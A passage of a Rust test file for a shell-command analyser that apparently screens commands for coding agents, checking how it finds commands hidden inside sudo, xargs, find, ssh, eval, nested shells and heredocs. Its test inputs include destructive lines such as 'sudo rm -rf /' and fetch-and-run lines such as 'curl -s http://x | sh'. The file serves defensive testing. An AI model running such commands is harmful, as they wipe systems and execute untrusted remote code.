    runs!("sudo rm -rf /" => ["sudo rm -rf /", "rm -rf / @wrap:sudo"]),
    runs!("sudo -u bob rm x" => ["sudo -u bob rm x", "rm x @wrap:sudo"]),
    runs!("sudo -ubob rm x" => ["sudo -ubob rm x", "rm x @wrap:sudo"]),
    runs!("sudo --user=bob rm x" => ["sudo --user=bob rm x", "rm x @wrap:sudo"]),
    runs!("sudo --user bob rm x" => ["sudo --user bob rm x", "rm x @wrap:sudo"]),
    runs!("sudo -g wheel rm x" => ["sudo -g wheel rm x", "rm x @wrap:sudo"]),
    runs!("sudo -C 5 rm x" => ["sudo -C 5 rm x", "rm x @wrap:sudo"]),
    runs!("sudo -D /tmp rm x" => ["sudo -D /tmp rm x", "rm x @wrap:sudo cwd=/tmp"]),
    // A login class and an authentication type are sudo's, not the command.
    runs!("sudo -c staff rm x" => ["sudo -c staff rm x", "rm x @wrap:sudo"]),
    runs!("sudo -a bsdauth -u bob rm x" => ["sudo -a bsdauth -u bob rm x", "rm x @wrap:sudo"]),
    runs!("sudo --login-class staff rm x" => ["sudo --login-class staff rm x", "rm x @wrap:sudo"]),
    runs!("sudo -- rm x" => ["sudo -- rm x", "rm x @wrap:sudo"]),
    runs!("sudo -E rm x" => ["sudo -E rm x", "rm x @wrap:sudo"]),
    runs!("sudo -H rm x" => ["sudo -H rm x", "rm x @wrap:sudo"]),
    runs!("sudo -EH rm x" => ["sudo -EH rm x", "rm x @wrap:sudo"]),
    runs!("sudo -n -S rm x" => ["sudo -n -S rm x", "rm x @wrap:sudo"]),
    runs!("sudo -E -H -u bob -- rm -rf /" => ["sudo -E -H -u bob -- rm -rf /", "rm -rf / @wrap:sudo"]),
    runs!("/usr/bin/sudo rm x" => ["/usr/bin/sudo rm x", "rm x @wrap:sudo"]),
    runs!(r#""sudo" rm x"# => ["sudo rm x", "rm x @wrap:sudo"]),
    runs!("s\\udo rm x" => ["sudo rm x", "rm x @wrap:sudo"]),
    runs!("sudo sudo rm x" => ["sudo sudo rm x", "sudo rm x @wrap:sudo", "rm x @wrap:sudo>wrap:sudo"]),
    runs!("sudo -l" => ["sudo -l"]),
    runs!("sudo -v" => ["sudo -v"]),
    runs!("sudo -i" => ["sudo -i", "‹$SHELL› @wrap:sudo cwd=/root"]),
    runs!("sudo bash -c 'rm x'" => ["sudo bash -c 'rm x'", "bash -c 'rm x' @wrap:sudo", "rm x @wrap:sudo>sh:bash d=1"]),
    runs!("sudo rm x &" => ["sudo rm x @bg", "rm x @bg>wrap:sudo"]),
    runs!("(sudo rm x)" => ["sudo rm x @subshell", "rm x @subshell>wrap:sudo"]),
    runs!("echo $(sudo rm x)" => ["echo '‹$(sudo rm x)›'", "sudo rm x @sub", "rm x @sub>wrap:sudo"]),
    runs!("sudo $CMD" => ["sudo ‹$CMD›", "‹$CMD› @wrap:sudo"]),
    runs!("doas rm x" => ["doas rm x", "rm x @wrap:doas"]),
    runs!("doas -u bob rm x" => ["doas -u bob rm x", "rm x @wrap:doas"]),
    runs!("doas -n rm x" => ["doas -n rm x", "rm x @wrap:doas"]),
    runs!("env rm x" => ["env rm x", "rm x @wrap:env"]),
    runs!("env FOO=1 rm x" => ["env FOO=1 rm x", "rm x @wrap:env"]),
    runs!("env -i rm x" => ["env -i rm x", "rm x @wrap:env"]),
    runs!("env -i PATH=/bin A=b rm x" => ["env -i PATH=/bin A=b rm x", "rm x @wrap:env"]),
    runs!("env -u HOME rm x" => ["env -u HOME rm x", "rm x @wrap:env"]),
    runs!("env --unset=HOME rm x" => ["env --unset=HOME rm x", "rm x @wrap:env"]),
    runs!("env -C /tmp rm x" => ["env -C /tmp rm x", "rm x @wrap:env cwd=/tmp"]),
    runs!("env -- rm x" => ["env -- rm x", "rm x @wrap:env"]),
    runs!("env -S 'rm -rf /'" => ["env -S 'rm -rf /'", "rm -rf / @wrap:env"]),
    runs!("env -S'rm -rf /'" => ["env '-Srm -rf /'", "rm -rf / @wrap:env"]),
    runs!("env" => ["env"]),
    runs!("env -i sh -c 'rm x'" => ["env -i sh -c 'rm x'", "sh -c 'rm x' @wrap:env", "rm x @wrap:env>sh:sh d=1"]),
    runs!("command rm x" => ["command rm x", "rm x @wrap:command"]),
    runs!("command -p rm x" => ["command -p rm x", "rm x @wrap:command"]),
    runs!("command -v rm" => ["command -v rm"]),
    runs!("command -V rm" => ["command -V rm"]),
    runs!("builtin echo x" => ["builtin echo x", "echo x @wrap:builtin"]),
    runs!("exec rm x" => ["exec rm x", "rm x @wrap:exec"]),
    runs!("exec -a foo rm x" => ["exec -a foo rm x", "rm x @wrap:exec"]),
    runs!("exec 3>f" => ["exec"]),
    runs!("nohup rm x" => ["nohup rm x", "rm x @wrap:nohup"]),
    runs!("nohup rm x &" => ["nohup rm x @bg", "rm x @bg>wrap:nohup"]),
    runs!("nice -n 5 rm x" => ["nice -n 5 rm x", "rm x @wrap:nice"]),
    runs!("nice -n5 rm x" => ["nice -n5 rm x", "rm x @wrap:nice"]),
    runs!("nice -5 rm x" => ["nice -5 rm x", "rm x @wrap:nice"]),
    runs!("nice --adjustment=5 rm x" => ["nice --adjustment=5 rm x", "rm x @wrap:nice"]),
    runs!("nice rm x" => ["nice rm x", "rm x @wrap:nice"]),
    runs!("ionice -c2 -n7 rm x" => ["ionice -c2 -n7 rm x", "rm x @wrap:ionice"]),
    runs!("ionice -c 3 rm x" => ["ionice -c 3 rm x", "rm x @wrap:ionice"]),
    runs!("ionice -p 123" => ["ionice -p 123"]),
    runs!("timeout 5 rm x" => ["timeout 5 rm x", "rm x @wrap:timeout"]),
    runs!("timeout -s KILL 5 rm x" => ["timeout -s KILL 5 rm x", "rm x @wrap:timeout"]),
    runs!("timeout --signal=KILL 5s rm x" => ["timeout --signal=KILL 5s rm x", "rm x @wrap:timeout"]),
    runs!("timeout -k 1 5 rm x" => ["timeout -k 1 5 rm x", "rm x @wrap:timeout"]),
    runs!("timeout --preserve-status 5 rm x" => ["timeout --preserve-status 5 rm x", "rm x @wrap:timeout"]),
    runs!("stdbuf -oL rm x" => ["stdbuf -oL rm x", "rm x @wrap:stdbuf"]),
    runs!("stdbuf -o L -e 0 rm x" => ["stdbuf -o L -e 0 rm x", "rm x @wrap:stdbuf"]),
    runs!("setsid rm x" => ["setsid rm x", "rm x @wrap:setsid"]),
    runs!("setsid -f rm x" => ["setsid -f rm x", "rm x @wrap:setsid"]),
    runs!("chroot /mnt rm x" => ["chroot /mnt rm x", "rm x @wrap:chroot cwd=/mnt"]),
    runs!("chroot --userspec=bob /mnt rm x" => ["chroot --userspec=bob /mnt rm x", "rm x @wrap:chroot cwd=/mnt"]),
    runs!("unshare -r rm x" => ["unshare -r rm x", "rm x @wrap:unshare"]),
    runs!("unshare -m -p -f rm x" => ["unshare -m -p -f rm x", "rm x @wrap:unshare"]),
    runs!("unshare --map-root-user rm x" => ["unshare --map-root-user rm x", "rm x @wrap:unshare"]),
    runs!("flock /tmp/l rm x" => ["flock /tmp/l rm x", "rm x @wrap:flock"]),
    runs!("flock -x /tmp/l rm x" => ["flock -x /tmp/l rm x", "rm x @wrap:flock"]),
    runs!("flock -w 5 /tmp/l rm x" => ["flock -w 5 /tmp/l rm x", "rm x @wrap:flock"]),
    runs!("watch 'rm x'" => ["watch 'rm x'", "rm x @sh:watch d=1"]),
    runs!("watch -n 5 rm x" => ["watch -n 5 rm x", "rm x @sh:watch d=1"]),
    runs!("watch -n5 'ls; rm x'" => ["watch -n5 'ls; rm x'", "ls @sh:watch d=1", "rm x @sh:watch d=1"]),
    runs!("watch -x rm x" => ["watch -x rm x", "rm x @wrap:watch"]),
    runs!("busybox rm x" => ["busybox rm x", "rm x @wrap:busybox"]),
    runs!("busybox sh -c 'rm x'" => ["busybox sh -c 'rm x'", "sh -c 'rm x' @wrap:busybox", "rm x @wrap:busybox>sh:sh d=1"]),
    runs!("sudo env FOO=1 nice -n 5 timeout 10 rm x" => [
        "sudo env FOO=1 nice -n 5 timeout 10 rm x",
        "env FOO=1 nice -n 5 timeout 10 rm x @wrap:sudo",
        "nice -n 5 timeout 10 rm x @wrap:sudo>wrap:env",
        "timeout 10 rm x @wrap:sudo>wrap:env>wrap:nice",
        "rm x @wrap:sudo>wrap:env>wrap:nice>wrap:timeout",
    ]),
    // xargs
    runs!("xargs rm" => ["xargs rm", "rm ‹…› @xargs"]),
    runs!("xargs" => ["xargs", "echo ‹…› @xargs"]),
    runs!("xargs -n1 rm < list" => ["xargs -n1 rm", "rm ‹…› @xargs"]),
    runs!("xargs -a list rm" => ["xargs -a list rm", "rm ‹…› @xargs"]),
    runs!("ls | xargs rm" => ["ls", "xargs rm", "rm ‹…› @xargs"]),
    runs!("echo a b | xargs rm" => ["echo a b", "xargs rm", "rm a b @xargs"]),
    runs!("xargs rm <<< 'a b'" => ["xargs rm", "rm a b @xargs"]),
    runs!(r#"xargs rm <<< "a 'b c'""# => ["xargs rm", "rm a 'b c' @xargs"]),
    runs!("xargs -r rm <<< a" => ["xargs -r rm", "rm a @xargs"]),
    runs!("xargs -I{} rm {} <<< a" => ["xargs -I{} rm {}", "rm a @xargs"]),
    runs!(r"printf 'a\nb\n' | xargs -I {} rm -rf /{}" => [r"printf 'a\\nb\\n'", "xargs -I {} rm -rf /{}", "rm -rf /a @xargs", "rm -rf /b @xargs"]),
    runs!(r"printf 'a\0b' | xargs -0 rm" => [r"printf 'a\\0b'", "xargs -0 rm", "rm a b @xargs"]),
    runs!("xargs -d , rm <<< 'a,b'" => ["xargs -d , rm", r"rm a 'b\n' @xargs"]),
    runs!("find . -print0 | xargs -0 rm" => ["find . -print0", "xargs -0 rm", "rm ‹…› @xargs"]),
    runs!("echo x | xargs -I% sh -c 'rm %'" => ["echo x", "xargs -I% sh -c 'rm %'", "sh -c 'rm x' @xargs", "rm x @xargs>sh:sh d=1"]),
    runs!("echo a | sudo xargs rm" => ["echo a", "sudo xargs rm", "xargs rm @wrap:sudo", "rm a @wrap:sudo>xargs"]),
    // find
    runs!(r"find . -name x -exec rm {} \;" => ["find . -name x -exec rm {} ;", "rm ./‹{}› @find"]),
    runs!("find . -exec rm {} ';'" => ["find . -exec rm {} ;", "rm ./‹{}› @find"]),
    runs!("find . -exec rm -rf {} +" => ["find . -exec rm -rf {} +", "rm -rf ./‹{}› @find"]),
    runs!(r"find /tmp -execdir rm {} \;" => ["find /tmp -execdir rm {} ;", "rm ‹{}› @find cwd=.|?"]),
    runs!(r"find . -ok rm {} \;" => ["find . -ok rm {} ;", "rm ./‹{}› @find"]),
    runs!(r"find -L . -exec rm {} \;" => ["find -L . -exec rm {} ;", "rm ./‹{}› @find"]),
    runs!(r"find . -exec echo {}.bak \;" => ["find . -exec echo {}.bak ;", "echo ./‹{}›.bak @find"]),
    runs!("find . -delete" => ["find . -delete"]),
    runs!("find / -name '*.tmp' -delete" => ["find / -name *.tmp -delete"]),
    runs!(r"find . -name '*.o' -exec rm {} \; -exec echo done \;" => ["find . -name *.o -exec rm {} ; -exec echo done ;", "rm ./‹{}› @find", "echo done @find"]),
    runs!(r"find . -type f -exec grep -l x {} + -exec rm {} \;" => ["find . -type f -exec grep -l x {} + -exec rm {} ;", "grep -l x ./‹{}› @find", "rm ./‹{}› @find"]),
    runs!(r#"find . -exec sh -c 'rm "$1"' _ {} \;"# => [r#"find . -exec sh -c 'rm "$1"' _ {} ;"#, r#"sh -c 'rm "$1"' _ ./‹{}› @find"#, "rm ‹$1› @find>sh:sh d=1"]),
    runs!("sudo find / -exec rm {} +" => ["sudo find / -exec rm {} +", "find / -exec rm {} + @wrap:sudo", "rm /‹{}› @wrap:sudo>find"]),
    // parallel
    runs!("parallel rm ::: a b" => ["parallel rm ::: a b", "rm a @parallel d=1", "rm b @parallel d=1"]),
    runs!("parallel rm {} ::: a b" => ["parallel rm {} ::: a b", "rm a @parallel d=1", "rm b @parallel d=1"]),
    runs!("parallel -j4 rm ::: a" => ["parallel -j4 rm ::: a", "rm a @parallel d=1"]),
    runs!("parallel 'rm {}' ::: a b" => ["parallel 'rm {}' ::: a b", "rm a @parallel d=1", "rm b @parallel d=1"]),
    // ssh
    runs!("ssh host rm x" => ["ssh host rm x", "rm x @ssh:host d=1 cwd=.|?"]),
    runs!("ssh -p 22 user@host 'rm -rf /'" => ["ssh -p 22 user@host 'rm -rf /'", "rm -rf / @ssh:user@host d=1 cwd=.|?"]),
    runs!("ssh -i key -o StrictHostKeyChecking=no h 'ls; rm x'" => ["ssh -i key -o StrictHostKeyChecking=no h 'ls; rm x'", "ls @ssh:h d=1 cwd=.|?", "rm x @ssh:h d=1 cwd=.|?"]),
    runs!("ssh -t host sudo rm x" => ["ssh -t host sudo rm x", "sudo rm x @ssh:host d=1 cwd=.|?", "rm x @ssh:host>wrap:sudo d=1 cwd=.|?"]),
    runs!("ssh host" => ["ssh host"]),
    // The local shell expands double-quoted text before ssh sends it.
    runs!(r#"ssh host "rm $HOME/x""# => ["ssh host 'rm /home/u/x'", "rm /home/u/x @ssh:host d=1 cwd=.|?"]),
    // su, runuser, script
    runs!("su -c 'rm x'" => ["su -c 'rm x'", "rm x @sh:su d=1"]),
    runs!("su -c 'rm x' bob" => ["su -c 'rm x' bob", "rm x @sh:su d=1"]),
    runs!("su -l -c 'rm x' bob" => ["su -l -c 'rm x' bob", "rm x @sh:su d=1 cwd=/srv/bob"]),
    runs!("runuser -u bob -- rm x" => ["runuser -u bob -- rm x", "rm x @wrap:runuser"]),
    runs!("script -c 'rm x' /dev/null" => ["script -c 'rm x' /dev/null", "rm x @sh:script d=1"]),
    runs!("script -qc 'rm x' /dev/null" => ["script -qc 'rm x' /dev/null", "rm x @sh:script d=1"]),
    runs!("sudo rm -rf ~bob" => ["sudo rm -rf /srv/bob", "rm -rf /srv/bob @wrap:sudo"]),
    runs!("sudo -u bob -- sh -c 'rm x'" => ["sudo -u bob -- sh -c 'rm x'", "sh -c 'rm x' @wrap:sudo", "rm x @wrap:sudo>sh:sh d=1"]),
    runs!("sudo -s" => ["sudo -s", "‹$SHELL› @wrap:sudo"]),
    runs!("doas -s" => ["doas -s", "‹$SHELL› @wrap:doas"]),
    runs!("sudo" => ["sudo"]),
    runs!("timeout 5" => ["timeout 5"]),
    runs!("command -- rm x" => ["command -- rm x", "rm x @wrap:command"]),
    runs!("time sudo rm x" => ["time sudo rm x", "sudo rm x @wrap:time", "rm x @wrap:time>wrap:sudo"]),
    runs!("timeout 5 sudo rm x" => ["timeout 5 sudo rm x", "sudo rm x @wrap:timeout", "rm x @wrap:timeout>wrap:sudo"]),
    runs!("nice -n -5 rm x" => ["nice -n -5 rm x", "rm x @wrap:nice"]),
    runs!("exec bash -c 'rm x'" => ["exec bash -c 'rm x'", "bash -c 'rm x' @wrap:exec", "rm x @wrap:exec>sh:bash d=1"]),
    runs!("nohup sh -c 'rm x' > /dev/null 2>&1 &" => ["nohup sh -c 'rm x' @bg", "sh -c 'rm x' @bg>wrap:nohup", "rm x @bg>wrap:nohup>sh:sh d=1"]),
    runs!(r"find . -exec sudo rm {} \;" => ["find . -exec sudo rm {} ;", "sudo rm ./‹{}› @find", "rm ./‹{}› @find>wrap:sudo"]),
    runs!("xargs -0 -I {} rm {} < list" => ["xargs -0 -I {} rm {}", "rm ‹{}› @xargs"]),
    runs!(r"printf '%s\n' a b | xargs rm" => [r"printf '%s\\n' a b", "xargs rm", "rm a b @xargs"]),
    // xargs appends its input to `sh -c`: `sh -c rm x` runs `rm` with $0 set to `x`.
    runs!("echo rm x | xargs sh -c" => ["echo rm x", "xargs sh -c", "sh -c rm x @xargs", "rm @xargs>sh:sh d=1"]),
    runs!("ssh -J jump host rm x" => ["ssh -J jump host rm x", "rm x @ssh:host d=1 cwd=.|?"]),
];

// ---------------------------------------------------------------------------------------------
// Nested code: shells given strings, eval, source, trap, code on stdin
// ---------------------------------------------------------------------------------------------

const NESTED: &[Runs] = &[
    runs!("bash -c 'rm x'" => ["bash -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("sh -c 'rm x'" => ["sh -c 'rm x'", "rm x @sh:sh d=1"]),
    runs!("zsh -c 'rm x'" => ["zsh -c 'rm x'", "rm x @sh:zsh d=1"]),
    runs!("dash -c 'rm x'" => ["dash -c 'rm x'", "rm x @sh:dash d=1"]),
    runs!("ksh -c 'rm x'" => ["ksh -c 'rm x'", "rm x @sh:ksh d=1"]),
    runs!("bash -lc 'rm x'" => ["bash -lc 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -xc 'rm x'" => ["bash -xc 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -ec 'rm x'" => ["bash -ec 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -e -u -c 'rm x'" => ["bash -e -u -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -o pipefail -c 'rm x'" => ["bash -o pipefail -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -C -c 'rm x'" => ["bash -C -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -c -C 'rm x'" => ["bash -c -C 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -co pipefail 'rm x'" => ["bash -co pipefail 'rm x'", "rm x @sh:bash d=1"]),
    runs!("bash -cO extglob 'rm x'" => ["bash -cO extglob 'rm x'", "rm x @sh:bash d=1"]),
    runs!("sh -eoo pipefail errexit -c 'rm x'" => ["sh -eoo pipefail errexit -c 'rm x'", "rm x @sh:sh d=1"]),
    runs!("bash --norc -c 'rm x'" => ["bash --norc -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("/bin/bash -c 'rm x'" => ["/bin/bash -c 'rm x'", "rm x @sh:bash d=1"]),
    runs!("sh -c 'rm x' sh arg" => ["sh -c 'rm x' sh arg", "rm x @sh:sh d=1"]),
    runs!("bash -c 'rm a; rm b'" => ["bash -c 'rm a; rm b'", "rm a @sh:bash d=1", "rm b @sh:bash d=1"]),
    runs!("bash -c 'rm a && rm b &'" => ["bash -c 'rm a && rm b &'", "rm a @sh:bash>bg d=1", "rm b @sh:bash>bg d=1"]),
    runs!(r#"bash -c "bash -c 'rm x'""# => [r"bash -c 'bash -c \'rm x\''", "bash -c 'rm x' @sh:bash d=1", "rm x @sh:bash>sh:bash d=2"]),
    runs!(r#"bash -c "$CMD""# => ["bash -c ‹$CMD›", "‹$CMD› @sh:bash d=1"]),
    runs!(r#"sh -c "rm $HOME""# => ["sh -c 'rm /home/u'", "rm /home/u @sh:sh d=1"]),
    // A plain variable is not passed to the child shell.
    runs!("a=rm; bash -c '$a x'" => ["bash -c '$a x'", "‹$a› x @sh:bash d=1"]),
    runs!("bash -c 'echo $(rm x)'" => ["bash -c 'echo $(rm x)'", "echo '‹$(rm x)›' @sh:bash d=1", "rm x @sh:bash>sub d=1"]),
    runs!("bash -c 'f() { rm x; }; f'" => ["bash -c 'f() { rm x; }; f'", "rm x @sh:bash>fn:f d=1", "f @sh:bash d=1 #fn"]),
    runs!("sh -c 'rm x' &" => ["sh -c 'rm x' @bg", "rm x @bg>sh:sh d=1"]),
    runs!("(bash -c 'rm x')" => ["bash -c 'rm x' @subshell", "rm x @subshell>sh:bash d=1"]),
    runs!("x=$(bash -c 'rm x')" => ["bash -c 'rm x' @sub", "rm x @sub>sh:bash d=1"]),
    runs!("if c; then sh -c 'rm x'; fi" => ["c @branch", "sh -c 'rm x' @branch", "rm x @branch>sh:sh d=1"]),
    runs!("bash script.sh" => ["bash script.sh"]),
    runs!("bash" => ["bash"]),
    runs!("sh -c" => ["sh -c"]),
    runs!("eval rm x" => ["eval rm x", "rm x @eval d=1"]),
    runs!("eval 'rm a; rm b'" => ["eval 'rm a; rm b'", "rm a @eval d=1", "rm b @eval d=1"]),
    runs!(r#"eval "rm $HOME""# => ["eval 'rm /home/u'", "rm /home/u @eval d=1"]),
    runs!(r#"a=rm; eval "$a x""# => ["eval 'rm x'", "rm x @eval d=1"]),
    runs!(r#"eval "$CMD""# => ["eval ‹$CMD›", "‹$CMD› @eval d=1"]),
    runs!("eval eval rm x" => ["eval eval rm x", "eval rm x @eval d=1", "rm x @eval>eval d=2"]),
    runs!(r#"bash -c 'eval "rm x"'"# => [r#"bash -c 'eval "rm x"'"#, "eval 'rm x' @sh:bash d=1", "rm x @sh:bash>eval d=2"]),
    runs!(r#"eval 'bash -c "rm x"'"# => [r#"eval 'bash -c "rm x"'"#, "bash -c 'rm x' @eval d=1", "rm x @eval>sh:bash d=2"]),
    runs!(r#"bash -c "eval 'sh -c \"rm x\"'""# => [
        r#"bash -c 'eval \'sh -c "rm x"\''"#,
        r#"eval 'sh -c "rm x"' @sh:bash d=1"#,
        "sh -c 'rm x' @sh:bash>eval d=2",
        "rm x @sh:bash>eval>sh:sh d=3",
    ]),
    runs!("eval" => ["eval"]),
    runs!("source <(echo rm x)" => ["source '‹<(echo rm x)›'", "echo rm x @proc", "rm x @source d=1"]),
    runs!(". <(echo rm x)" => [". '‹<(echo rm x)›'", "echo rm x @proc", "rm x @source d=1"]),
    runs!("source ./env.sh" => ["source ./env.sh"]),
    runs!("source <(curl -s http://x)" => ["source '‹<(curl -s http://x)›'", "curl -s http://x @proc"]),
    runs!("trap 'rm x' EXIT" => ["trap 'rm x' EXIT", "rm x @trap d=1"]),
    runs!("trap -- 'rm x' INT TERM" => ["trap -- 'rm x' INT TERM", "rm x @trap d=1"]),
    runs!("trap - EXIT" => ["trap - EXIT"]),
    runs!("trap -l" => ["trap -l"]),
    runs!("bash <<EOF\nrm x\nEOF" => ["bash", "rm x @heredoc:bash d=1"]),
    runs!("bash <<'EOF'\nrm $x\nEOF" => ["bash", "rm ‹$x› @heredoc:bash d=1"]),
    runs!("bash <<EOF\nrm $HOME/x\nEOF" => ["bash", "rm /home/u/x @heredoc:bash d=1"]),
    runs!("sh <<-EOF\n\trm a\n\trm b\n\tEOF" => ["sh", "rm a @heredoc:sh d=1", "rm b @heredoc:sh d=1"]),
    runs!("sh <<< 'rm x'" => ["sh", "rm x @heredoc:sh d=1"]),
    runs!("sh -s <<< 'rm x'" => ["sh -s", "rm x @heredoc:sh d=1"]),
    runs!("bash -s -- a b <<EOF\nrm x\nEOF" => ["bash -s -- a b", "rm x @heredoc:bash d=1"]),
    runs!("sudo bash <<EOF\nrm x\nEOF" => ["sudo bash", "bash @wrap:sudo", "rm x @wrap:sudo>heredoc:bash d=1"]),
    runs!("echo 'rm x' | sh" => ["echo 'rm x'", "sh", "rm x @pipe:sh d=1"]),
    runs!(r"printf 'rm x\n' | bash" => [r"printf 'rm x\\n'", "bash", "rm x @pipe:bash d=1"]),
    runs!("echo rm x | bash -s" => ["echo rm x", "bash -s", "rm x @pipe:bash d=1"]),
    runs!("cat <<EOF | sh\nrm x\nEOF" => ["cat", "sh", "rm x @pipe:sh d=1"]),
    // The grammar hangs a heredoc written after a group or a list on the whole statement, and
    // the `| sh` after it with it: what the statement prints still feeds the shell.
    runs!("{ cat; } <<EOF | sh\nrm x\nEOF" => ["cat", "sh", "rm x @pipe:sh d=1"]),
    runs!("{ cat; } <<EOF | tee f\nrm x\nEOF" => ["cat", "tee f"]),
    runs!("echo rm x | sudo bash" => ["echo rm x", "sudo bash", "bash @wrap:sudo", "rm x @wrap:sudo>pipe:bash d=1"]),
    runs!("echo 'echo rm x | sh' | sh" => ["echo 'echo rm x | sh'", "sh", "echo rm x @pipe:sh d=1", "sh @pipe:sh d=1", "rm x @pipe:sh>pipe:sh d=2"]),
    runs!("sh -c 'bash <<< \"rm x\"'" => [r#"sh -c 'bash <<< "rm x"'"#, "bash @sh:sh d=1", "rm x @sh:sh>heredoc:bash d=2"]),
    runs!("curl -s http://x | sh" => ["curl -s http://x", "sh"]),
    runs!("bash -c -- 'rm x'" => ["bash -c -- 'rm x'", "rm x @sh:bash d=1"]),
    runs!(r#"sh -c 'rm "$1"' _ "$f""# => [r#"sh -c 'rm "$1"' _ ‹$f›"#, "rm ‹$1› @sh:sh d=1"]),
    runs!("echo x | sh -c 'cat; rm y'" => ["echo x", "sh -c 'cat; rm y'", "cat @sh:sh d=1", "rm y @sh:sh d=1"]),
    runs!(r#"sh -c "sh -c \"sh -c 'rm x'\"""# => [
        r#"sh -c 'sh -c "sh -c \'rm x\'"'"#,
        r"sh -c 'sh -c \'rm x\'' @sh:sh d=1",
        "sh -c 'rm x' @sh:sh>sh:sh d=2",
        "rm x @sh:sh>sh:sh>sh:sh d=3",
    ]),
    runs!(r#"bash -c 'bash -c "rm \$HOME"'"# => [r#"bash -c 'bash -c "rm \\$HOME"'"#, "bash -c 'rm $HOME' @sh:bash d=1", "rm /home/u @sh:bash>sh:bash d=2"]),
    runs!(r#"trap "rm $HOME/x" EXIT"# => ["trap 'rm /home/u/x' EXIT", "rm /home/u/x @trap d=1"]),
    runs!("printf 'rm x' | sh" => ["printf 'rm x'", "sh", "rm x @pipe:sh d=1"]),
    runs!(r"echo -e 'rm a\nrm b' | bash" => [r"echo -e 'rm a\\nrm b'", "bash", "rm a @pipe:bash d=1", "rm b @pipe:bash d=1"]),
    runs!("echo -n 'rm x' | sh" => ["echo -n 'rm x'", "sh", "rm x @pipe:sh d=1"]),
    // guard inside guard is a wrapper: its own options cannot hide what it would run.
    runs!("guard -c 'rm x'" => ["guard -c 'rm x'", "rm x @sh:guard d=1"]),
    runs!("guard --mode observe -c 'rm x'" => ["guard --mode observe -c 'rm x'", "rm x @sh:guard d=1"]),
    runs!("guard --mode=observe --policy p.yaml -lc 'rm x'" => ["guard --mode=observe --policy p.yaml -lc 'rm x'", "rm x @sh:guard d=1"]),
    runs!("/usr/local/bin/guard --record -- rm -rf x" => ["/usr/local/bin/guard --record -- rm -rf x", "rm -rf x @wrap:guard"]),
    runs!("guard <<< 'rm x'" => ["guard", "rm x @heredoc:guard d=1"]),
    runs!("echo 'rm x' | guard -s" => ["echo 'rm x'", "guard -s", "rm x @pipe:guard d=1"]),
    runs!(r#"echo '{"tool_input":{"command":"rm x"}}' | guard hook claude"# => [r#"echo '{"tool_input":{"command":"rm x"}}'"#, "guard hook claude", "rm x @sh:guard hook d=1"]),
    runs!("guard --dry-run -c 'rm x'" => ["guard --dry-run -c 'rm x'"]),
    runs!("guard check 'rm x'" => ["guard check 'rm x'"]),
];

// ---------------------------------------------------------------------------------------------
// Heredocs and here-strings given to programs that treat them as data
// ---------------------------------------------------------------------------------------------

const HEREDOCS: &[Runs] = &[
    runs!("cat <<EOF\nrm -rf /\nEOF" => ["cat"]),
    runs!("cat <<EOF\n$(rm x)\nEOF" => ["cat", "rm x @sub"]),
    runs!("cat <<'EOF'\n$(rm x)\nEOF" => ["cat"]),
    runs!("cat <<\"EOF\"\n$(rm x)\nEOF" => ["cat"]),
    runs!("cat <<\\EOF\n$(rm x)\nEOF" => ["cat"]),
    runs!("tee f <<EOF\nrm x\nEOF" => ["tee f"]),
    runs!("cat > f <<EOF\n#!/bin/sh\nrm -rf /\nEOF" => ["cat"]),
    runs!("cat <<-EOF\n\trm x\n\tEOF" => ["cat"]),
    runs!("cat <<EOF && rm y\nrm x\nEOF" => ["cat", "rm y"]),
    runs!("cat <<EOF | tee f\nrm x\nEOF" => ["cat", "tee f"]),
    runs!("cat <<EOF\n${HOME} $PWD\nEOF" => ["cat"]),
    runs!("python3 <<EOF\nimport os\nEOF" => ["python3"]),
    runs!("grep -q x <<EOF\nrm x\nEOF" => ["grep -q x"]),
    runs!("cat <<< 'rm x'" => ["cat"]),
    runs!("cat <<< \"$(rm x)\"" => ["cat", "rm x @sub"]),
    runs!("cat <<< '$(rm x)'" => ["cat"]),
    runs!("f() {\ncat <<EOF\nrm x\nEOF\n}\nf" => ["cat @fn:f", "f #fn"]),
    runs!("cat <<EOF\nrm a\nEOF\nrm b" => ["cat", "rm b"]),
    runs!("cat <<EOF > f\n$(rm x)\nEOF" => ["cat", "rm x @sub"]),
    runs!("echo $(cat <<EOF\nrm x\nEOF\n)" => [r"echo '‹$(cat <<EOF\nrm x\nEOF\n)›'", "cat @sub"]),
    runs!("x=$(cat <<'EOF'\n$(rm x)\nEOF\n)" => ["cat @sub"]),
];

// ---------------------------------------------------------------------------------------------
// Code records
// ---------------------------------------------------------------------------------------------

const CODE: &[CodeOf] = &[
    code!("true && cat <<EOF | sh\nrm x\nEOF", "sh" => "sh stdin ~the output of the previous pipeline stage"),
    code!("if true; then cat; fi <<EOF | sh\nrm x\nEOF", "sh" => "sh stdin ~the output of the previous pipeline stage"),
    code!("echo a | cat <<EOF | sh\nrm x\nEOF", "sh" => "sh stdin ~the output of the previous pipeline stage"),
    code!("python -c 'import os'", "python -c 'import os'" => "python arg 'import os'"),
    code!("python3 -c 'print(1)'", "python3 -c print(1)" => "python arg print(1)"),
    code!("python3.12 -c 'x'", "python3.12 -c x" => "python arg x"),
    code!(r#"python -c "$CODE""#, "python -c ‹$CODE›" => "python arg ‹$CODE›"),
    code!("python script.py", "python script.py" => "python file script.py"),
    code!("python", "python" => none),
    code!("python -m http.server", "python -m http.server" => none),
    code!("sudo python3 -c 'x'", "python3 -c x" => "python arg x"),
    code!(r#"perl -e 'unlink "x"'"#, r#"perl -e 'unlink "x"'"# => r#"perl arg 'unlink "x"'"#),
    code!("perl -ne 'print' f", "perl -ne print f" => "perl arg print"),
    code!("perl -pi -e 's/a/b/' f", "perl -pi -e s/a/b/ f" => "perl arg s/a/b/"),
    code!("perl -E 'say 1'", "perl -E 'say 1'" => "perl arg 'say 1'"),
    code!("perl script.pl", "perl script.pl" => "perl file script.pl"),
    // `-l` and `-0` take a value only attached: the next word is not theirs.
    code!("perl -l -e 'unlink 1'", "perl -l -e 'unlink 1'" => "perl arg 'unlink 1'"),
    code!("perl -0 -ne 'print' f", "perl -0 -ne print f" => "perl arg print"),
    code!("perl -l script.pl", "perl -l script.pl" => "perl file script.pl"),
